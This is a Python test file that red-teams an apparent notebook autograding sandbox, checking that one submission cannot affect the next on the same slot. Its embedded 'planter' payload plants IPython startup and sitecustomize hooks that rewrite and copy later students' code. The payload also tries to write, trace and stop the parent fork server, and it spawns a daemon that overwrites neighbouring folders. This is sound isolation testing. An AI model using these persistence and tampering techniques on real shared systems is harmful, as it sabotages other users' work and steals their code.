"""Red team: one submission leaves nothing behind for the next one on the same grading slot.

Three students are graded one after another on one slot (``workers=1``, in name order): a
planter whose answer cell plants everything a kernel can plant (IPython and Jupyter profiles and
startup files, a user-site ``.pth``, ``sitecustomize``, matplotlib config, files in /tmp and
/dev/shm, a daemon that rewrites later students' files) and attacks its fork server (writes its
memory, traces it, stops it); an honest student; then a reader that looks for anything the two
before it left. The honest student must keep full marks, the reader must find nothing.
"""
from __future__ import annotations

import json

import pytest
from grading import grade_batch, open_without_sandbox
from support.tiny_course import submit

MARKER = "HONEST-MARKER-7d1f"
HONEST = f"def square(x):\n    return x * x  # {MARKER}"

# IPython runs every file of <profile>/startup at kernel start: this one would make the next
# student's `x * x` read `x + x`, and copy every cell they run to places the reader looks.
_STARTUP = r'''
import os
_ip = get_ipython()
def _tamper(lines):
    _text = "".join(lines)
    for _place in ("/tmp/stolen.txt", os.path.expanduser("~/stolen.txt"), "/dev/shm/stolen.txt"):
        try:
            with open(_place, "a") as _handle:
                _handle.write(_text)
        except OSError:
            pass
    return [line.replace("x * x", "x + x") for line in lines]
_ip.input_transformers_post.append(_tamper)
'''

PLANTER = r'''import ctypes, json, os, signal, site, sys, time
_done = {}
_home = os.path.expanduser("~")
_startup = _STARTUP_SOURCE
_places = {
    "ipython_startup": os.path.join(_home, ".ipython/profile_default/startup/00-planted.py"),
    "ipythondir_startup": os.path.join(os.environ.get("IPYTHONDIR", _home + "/.ipython"), "profile_default/startup/00-planted.py"),
    "ipython_config": os.path.join(_home, ".ipython/profile_default/ipython_kernel_config.py"),
    "jupyter_config": os.path.join(_home, ".jupyter/jupyter_config.py"),
    "user_site_pth": os.path.join(site.getusersitepackages(), "planted.pth"),
    "sitecustomize_home": os.path.join(_home, "sitecustomize.py"),
    "mpl_config": os.path.join(_home, ".config/matplotlib/matplotlibrc"),
    "tmp_file": "/tmp/planted.txt",
    "shm_file": "/dev/shm/planted.txt",
}
_contents = {"ipython_config": "c.InteractiveShellApp.exec_lines = [" + repr(_startup) + "]\n",
             "jupyter_config": "c.InteractiveShellApp.exec_lines = [" + repr(_startup) + "]\n",
             "user_site_pth": "import os; os.environ['PLANTED_PTH'] = '1'\n",
             "sitecustomize_home": _startup, "mpl_config": "lines.linewidth: 42\n",
             "tmp_file": "planted secret\n", "shm_file": "planted secret\n"}
for _name, _path in _places.items():
    try:
        os.makedirs(os.path.dirname(_path), exist_ok=True)
        with open(_path, "w") as _handle:
            _handle.write(_contents.get(_name, _startup))
        _done[_name] = "planted"
    except OSError as _error:
        _done[_name] = f"refused: {_error}"
# the fork server that forked this kernel: its memory, tracing it, stopping it
_server = os.getppid()
try:
    with open(f"/proc/{_server}/mem", "r+b"):
        _done["server_memory"] = "OPENED FOR WRITING"
except OSError as _error:
    _done["server_memory"] = f"refused: {_error}"
_libc = ctypes.CDLL(None, use_errno=True)
_done["server_ptrace"] = "ATTACHED" if _libc.ptrace(16, _server, 0, 0) == 0 else f"refused: errno {ctypes.get_errno()}"
try:
    os.kill(_server, signal.SIGSTOP)
    _done["server_stop"] = "STOPPED"
    os.kill(_server, signal.SIGCONT)
except OSError as _error:
    _done["server_stop"] = f"refused: {_error}"
# a daemon that outlives this kernel and rewrites the next students' folders
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _until = time.time() + 60
        while time.time() < _until:
            for _root, _dirs, _files in os.walk(os.path.dirname(os.getcwd())):
                for _file in _files:
                    if _file.endswith(".ipynb") or _file == "sitecustomize.py":
                        try:
                            with open(os.path.join(_root, "sitecustomize.py"), "w") as _handle:
                                _handle.write(_startup)
                        except OSError:
                            pass
            time.sleep(0.05)
    os._exit(0)
time.sleep(0.3)
print("PLANTED " + json.dumps(_done))

def square(x):
    return x + x
'''.replace("_STARTUP_SOURCE", repr(_STARTUP))  # noqa: E501

READER = r'''import json, os
_found = {}
for _folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), os.environ.get("IPYTHONDIR", "")):
    for _root, _dirs, _files in os.walk(_folder) if _folder else ():
        for _file in _files:
            _path = os.path.join(_root, _file)
            try:
                with open(_path, errors="replace") as _handle:
                    _text = _handle.read(100000)
            except OSError:
                continue
            if "planted" in _text or "MARKER" in _text or "_tamper" in _text:
                _found[_path] = _text[:200]
_found["env"] = sorted(k for k in os.environ if "PLANTED" in k)
_found["same_user_processes"] = sorted(
    p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()
    and os.stat(f"/proc/{p}").st_uid == os.getuid() and os.getuid() != 0)
print("READER " + json.dumps(_found))

def square(x):
    return x * x
'''


@pytest.fixture(scope="module")
def in_a_row(tiny_template, tmp_path_factory):
    """a_planter, b_honest, c_reader graded in that order on one slot."""
    def students(course, places):
        submit(course, "a_planter", PLANTER)
        submit(course, "b_honest", HONEST)
        submit(course, "c_reader", READER)

    return grade_batch(tiny_template, tmp_path_factory.mktemp("in-a-row"), [], honest=[], extra=students,
                       workers=1)


def _printed_json(batch, student: str, prefix: str) -> dict:
    line = next((ln for ln in batch.printed(student).splitlines() if ln.startswith(prefix + " ")), "")
    assert line, f"{student} printed no {prefix} line: {batch.printed(student)[:1000]}"
    return json.loads(line.split(" ", 1)[1])


def test_the_honest_student_after_a_planter_keeps_full_marks(in_a_row):
    assert in_a_row.score("b_honest") == 3, in_a_row.problems("b_honest")
    assert in_a_row.score("c_reader") == 3
    assert in_a_row.score("a_planter") == 0  # x + x: its honest content


def test_the_planter_really_planted_in_its_own_kernel(in_a_row):
    """The attack is live: its own HOME, /tmp and startup folders were writable to it."""
    planted = _printed_json(in_a_row, "a_planter", "PLANTED")
    assert planted["ipython_startup"] == "planted" and planted["tmp_file"] == "planted", planted


def test_nothing_a_kernel_writes_reaches_the_next_kernel(in_a_row, containment, request):
    """HOME, IPython/Jupyter profiles, user site, /tmp, /dev/shm and daemons: the reader finds nothing."""
    open_without_sandbox(request, containment, "without the sandbox /tmp and /dev/shm are the machine's own")
    found = _printed_json(in_a_row, "c_reader", "READER")
    assert found == {"env": [], "same_user_processes": []}, found
    assert MARKER not in in_a_row.printed("c_reader")


def test_ipython_startup_files_from_an_earlier_kernel_never_run(in_a_row):
    """Holds with or without the sandbox: every kernel gets a new, empty HOME and IPython folder."""
    found = _printed_json(in_a_row, "c_reader", "READER")
    assert not [p for p in found if "startup" in p or "ipython" in p.lower() or "jupyter" in p], found


def test_the_fork_server_cannot_be_written_traced_or_stopped_by_its_kernels(in_a_row, containment, request):
    open_without_sandbox(request, containment, "a kernel run as root (no sandbox) may trace any process")
    planted = _printed_json(in_a_row, "a_planter", "PLANTED")
    for attack in ("server_memory", "server_ptrace", "server_stop"):
        assert planted[attack].startswith("refused"), (attack, planted[attack])


def test_grading_reports_nothing_wrong_for_the_honest_student(in_a_row):
    assert in_a_row.problems("b_honest") == []
    assert in_a_row.outcome.exit_code == 0
